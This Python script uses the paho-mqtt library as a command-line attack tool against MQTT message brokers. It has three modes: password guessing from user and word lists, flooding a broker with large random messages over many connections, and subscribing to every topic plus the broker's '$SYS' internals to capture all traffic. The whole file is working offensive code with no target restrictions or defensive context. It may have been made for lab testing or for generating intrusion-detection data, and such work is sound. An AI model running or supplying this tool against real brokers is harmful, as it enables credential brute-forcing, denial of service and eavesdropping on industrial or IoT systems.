"""MQTT used badly: guess passwords, flood a broker, listen to everything (paho-mqtt)."""

from __future__ import annotations

import random
import sys
import time
from pathlib import Path

import paho.mqtt.client as mqtt


def client(name: str, user: str, password: str) -> mqtt.Client:
    """One client with its credentials."""
    made = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=name)
    made.username_pw_set(user, password)
    return made


def guess(host: str, port: int, users: str, words: str, gap: float) -> None:
    """Try every word for every user, a connection each."""
    for word in Path(words).read_text().split():
        for user in Path(users).read_text().split():
            trial = client(f"c{random.randrange(10**6)}", user, word)
            trial.connect(host, port, keepalive=5)
            for _ in range(4):
                trial.loop(0.05)
            trial.disconnect()
            time.sleep(gap)


def flood(host: str, port: int, user: str, password: str, times: int, messages: int, size: int) -> None:
    """Many messages as fast as the broker takes them, over some connections."""
    for number in range(times):
        sender = client(f"flood{number}", user, password)
        sender.connect(host, port, keepalive=20)
        sender.loop_start()
        for _ in range(messages):
            sender.publish(
                f"plant/{random.randrange(9)}/{random.randrange(99)}", random.randbytes(size), qos=number % 2
            )
        time.sleep(1.5)
        sender.loop_stop()
        sender.disconnect()


def listen(host: str, port: int, user: str, password: str, times: int, seconds: float) -> None:
    """Subscribe to every topic there is, and to the broker's own."""
    for number in range(times):
        ear = client(f"ear{number}", user, password)
        ear.connect(host, port, keepalive=20)
        ear.subscribe([("#", 0), ("$SYS/#", 0)])
        ear.loop_start()
        time.sleep(seconds)
        ear.loop_stop()
        ear.disconnect()


def main() -> None:
    """Take guess HOST PORT USERS WORDS GAP, flood HOST PORT USER PASSWORD TIMES MESSAGES SIZE, or listen."""
    what, host, port, first, second, *rest = sys.argv[1:]
    numbers = [float(text) for text in rest]
    if what == "guess":
        guess(host, int(port), first, second, *numbers)
    elif what == "flood":
        flood(host, int(port), first, second, *map(int, numbers))
    else:
        listen(host, int(port), first, second, int(numbers[0]), numbers[1])


if __name__ == "__main__":
    main()
